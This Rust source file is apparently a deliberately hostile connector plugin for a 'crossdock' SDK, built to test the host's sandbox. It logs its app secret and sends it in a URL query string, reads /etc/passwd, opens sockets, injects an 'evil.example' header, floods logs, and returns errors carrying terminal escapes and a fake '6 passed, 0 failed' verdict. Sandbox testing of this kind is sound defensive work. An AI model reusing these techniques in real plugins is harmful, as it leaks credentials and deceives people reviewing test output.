//! A channel connector that attacks its host on purpose, driven by the category id it is
//! asked about (`category-attributes "<verb> <argument>"`), reporting what the host let it do
//! as one attribute named with the outcome:
//!
//! - `fetch <url>`, `header <name> <url>`: a GET through the host's `http` import, raw
//!   (`ok <status> location=<…>`, `denied: …`, `invalid-url: …`, `transport: …`, `timeout`);
//! - `flood <n>`: logs `n` lines; `huge <n>`: fails with an error of `n` bytes that starts
//!   with terminal escape sequences and a fake verdict line;
//! - `wasi-env`, `wasi-files`, `wasi-socket <host:port>`, `wasi-clock`: tries WASI directly;
//! - `leak <url>`: reads its `app-secret`, logs it, and calls `<url>?app_secret=<secret>`,
//!   failing with the whole URL and the host's error in its message.
//!
//! `create-listing` does `leak <base-url>/token`, so a sync turns it into a failed job.

use crossdock_plugin_sdk::listings::{
    ListingDraft, ListingRef, ListingSnapshot, ReviewStatus, SkuMatch, SkuPrice, SkuStock,
};
use crossdock_plugin_sdk::store_bindings::crossdock::connector::http as raw;
use crossdock_plugin_sdk::types::{AccountInfo, Attribute, Category, ConnectorError};
use crossdock_plugin_sdk::{ChannelListings, Result, config, export_channel, log, manifest};

manifest!("../crossdock.toml");

struct Hostile;

fn get(url: &str, headers: Vec<(String, String)>) -> std::result::Result<raw::Response, raw::HttpError> {
    raw::send(&raw::Request {
        method: raw::Method::Get,
        url: url.to_string(),
        headers: headers.into_iter().map(|(name, value)| raw::Header { name, value }).collect(),
        body: None,
        timeout_ms: Some(3_000),
    })
}

fn outcome(result: std::result::Result<raw::Response, raw::HttpError>) -> String {
    match result {
        Ok(r) => {
            let location = r
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case("location"))
                .map(|h| h.value.clone())
                .unwrap_or_default();
            format!("ok {} location={location}", r.status)
        }
        Err(raw::HttpError::Denied(why)) => format!("denied: {why}"),
        Err(raw::HttpError::InvalidUrl(why)) => format!("invalid-url: {why}"),
        Err(raw::HttpError::Transport(why)) => format!("transport: {why}"),
        Err(raw::HttpError::Timeout) => "timeout".into(),
        Err(raw::HttpError::TooLarge(n)) => format!("too-large {n}"),
    }
}

fn wasi_env() -> String {
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    let dir = std::env::current_dir().map(|d| d.display().to_string()).map_err(|e| e.to_string());
    format!("vars={} {vars:?} args={} cwd={dir:?}", vars.len(), args.len())
}

fn wasi_files() -> String {
    let tries = [
        ("read /etc/passwd", std::fs::read("/etc/passwd").map(|b| b.len().to_string())),
        ("list /", std::fs::read_dir("/").map(|d| d.count().to_string())),
        ("list .", std::fs::read_dir(".").map(|d| d.count().to_string())),
        ("create /tmp/hostile", std::fs::write("/tmp/hostile", b"x").map(|()| "written".to_string())),
    ];
    tries
        .into_iter()
        .map(|(what, result)| match result {
            Ok(v) => format!("{what}: ok {v}"),
            Err(e) => format!("{what}: refused ({e})"),
        })
        .collect::<Vec<_>>()
        .join("; ")
}

fn wasi_socket(target: &str) -> String {
    use std::net::ToSocketAddrs;
    let tcp = match target.parse::<std::net::SocketAddr>() {
        Ok(addr) => std::net::TcpStream::connect(addr).map(|_| "connected".to_string()),
        Err(e) => Ok(format!("bad target {e}")),
    };
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").map(|_| "bound".to_string());
    let dns = "localhost:80".to_socket_addrs().map(|a| format!("{} addresses", a.count()));
    let show = |r: std::io::Result<String>| match r {
        Ok(v) => format!("ok {v}"),
        Err(e) => format!("refused ({e})"),
    };
    format!("tcp: {}; udp: {}; dns: {}", show(tcp), show(udp), show(dns))
}

fn wasi_clock() -> String {
    use std::hash::{BuildHasher, Hasher};
    let wall =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    let start = std::time::Instant::now();
    let random = std::collections::hash_map::RandomState::new().build_hasher().finish();
    format!(
        "wall={wall} monotonic={:?} random={}",
        start.elapsed() < std::time::Duration::from_secs(5),
        random != 0
    )
}

/// Calls `<url>?app_secret=<secret>` and fails saying so, secret and all; logs it first.
fn leak(url: &str) -> ConnectorError {
    let secret = config::secret("app-secret").unwrap_or_default();
    log::info(&format!("about to call with app secret {secret}"));
    let reversed: String = secret.chars().rev().collect();
    log::info(&format!("the same, reversed: {reversed}"));
    let full = format!("{url}?app_secret={secret}");
    let what = outcome(get(&full, Vec::new()));
    ConnectorError::Fatal(format!("calling {full}: {what}"))
}

fn run(command: &str) -> Result<String> {
    let (verb, arg) = command.split_once(' ').unwrap_or((command, ""));
    Ok(match verb {
        "fetch" => outcome(get(arg, Vec::new())),
        "header" => {
            let (name, url) = arg.split_once(' ').unwrap_or((arg, ""));
            outcome(get(url, vec![(name.to_string(), "evil.example".to_string())]))
        }
        "flood" => {
            let n: u64 = arg.parse().unwrap_or(0);
            for i in 0..n {
                log::info(&format!("flood line {i}"));
            }
            format!("logged {n}")
        }
        "huge" => {
            let n: usize = arg.parse().unwrap_or(0);
            let fake = "\n\u{1b}[2K\u{1b}[1A\u{1b}[32mpass  everything\n6 passed, 0 failed\u{1b}[0m\n";
            return Err(ConnectorError::Fatal(format!("{fake}{}", "x".repeat(n))));
        }
        "wasi-env" => wasi_env(),
        "wasi-files" => wasi_files(),
        "wasi-socket" => wasi_socket(arg),
        "wasi-clock" => wasi_clock(),
        "leak" => return Err(leak(arg)),
        // An ordinary category id (the sync asks about its category): no attributes.
        _ => String::new(),
    })
}

impl ChannelListings for Hostile {
    fn channel_info() -> Result<AccountInfo> {
        Ok(AccountInfo { id: "hostile".into(), name: "Hostile".into(), currency: "USD".into(), region: None })
    }
    fn create_listing(_draft: ListingDraft) -> Result<ListingRef> {
        let base = config::require("base-url")?;
        Err(leak(&format!("{}/token", base.trim_end_matches('/'))))
    }
    fn update_listing(_listing_id: String, draft: ListingDraft) -> Result<ListingRef> {
        Self::create_listing(draft)
    }
    fn update_prices(_listing_id: String, _prices: Vec<SkuPrice>) -> Result<()> {
        Ok(())
    }
    fn update_stock(_listing_id: String, _stock: Vec<SkuStock>) -> Result<()> {
        Ok(())
    }
    fn listing_status(_listing_id: String) -> Result<ReviewStatus> {
        Ok(ReviewStatus::Active)
    }
    fn deactivate_listing(_listing_id: String) -> Result<()> {
        Ok(())
    }
    fn activate_listing(_listing_id: String) -> Result<()> {
        Ok(())
    }
    fn read_listing(_listing_id: String) -> Result<ListingSnapshot> {
        Ok(ListingSnapshot { status: ReviewStatus::Active, skus: Vec::new() })
    }
    fn find_skus(_seller_skus: Vec<String>) -> Result<Vec<SkuMatch>> {
        Ok(Vec::new())
    }
    fn list_categories() -> Result<Vec<Category>> {
        Ok(vec![Category { id: "1".into(), parent_id: None, name: "Everything".into(), is_leaf: true }])
    }
    /// The command channel: the id is the command, the one attribute's name the outcome.
    fn category_attributes(category_id: String) -> Result<Vec<Attribute>> {
        let report = run(&category_id)?;
        if report.is_empty() {
            return Ok(Vec::new());
        }
        Ok(vec![Attribute {
            id: "report".into(),
            name: report,
            required: false,
            options: Vec::new(),
            custom_allowed: true,
            is_sales_attribute: false,
        }])
    }
}

impl crossdock_plugin_sdk::ChannelOrders for Hostile {
    fn list_orders(
        _updated_since: i64,
        _cursor: Option<String>,
        _limit: u32,
    ) -> Result<crossdock_plugin_sdk::channel_orders::OrderPage> {
        Ok(crossdock_plugin_sdk::channel_orders::OrderPage { orders: Vec::new(), next_cursor: None })
    }
    fn get_order(_id: String) -> Result<Option<crossdock_plugin_sdk::commerce::ChannelOrder>> {
        Ok(None)
    }
    fn shipping_providers() -> Result<Vec<crossdock_plugin_sdk::channel_orders::ShippingProvider>> {
        Ok(Vec::new())
    }
    fn ship(_order_id: String, _shipment: crossdock_plugin_sdk::channel_orders::Shipment) -> Result<String> {
        Err(ConnectorError::Fatal("the hostile channel has no orders".into()))
    }
    fn update_tracking(
        _order_id: String,
        _package_id: String,
        _carrier_id: String,
        _tracking: String,
    ) -> Result<()> {
        Err(ConnectorError::Fatal("the hostile channel has no orders".into()))
    }
    fn cancel_order(_order_id: String, _reason: String) -> Result<()> {
        Err(ConnectorError::Fatal("the hostile channel has no orders".into()))
    }
    fn list_after_sales(
        _updated_since: i64,
        _cursor: Option<String>,
        _limit: u32,
    ) -> Result<crossdock_plugin_sdk::channel_orders::AfterSalePage> {
        Ok(crossdock_plugin_sdk::channel_orders::AfterSalePage { requests: Vec::new(), next_cursor: None })
    }
    fn order_after_sales(_order_id: String) -> Result<Vec<crossdock_plugin_sdk::commerce::AfterSale>> {
        Ok(Vec::new())
    }
    fn decide_after_sale(_id: String, _approve: bool) -> Result<()> {
        Err(ConnectorError::Fatal("the hostile channel has no orders".into()))
    }
}

impl crossdock_plugin_sdk::ChannelWebhooks for Hostile {
    fn verify_webhook(
        _headers: Vec<(String, String)>,
        _body: Vec<u8>,
    ) -> Result<crossdock_plugin_sdk::channel_webhooks::ChannelDelivery> {
        Err(ConnectorError::Unauthorized("the hostile channel takes no webhooks".into()))
    }
}

export_channel!(Hostile);
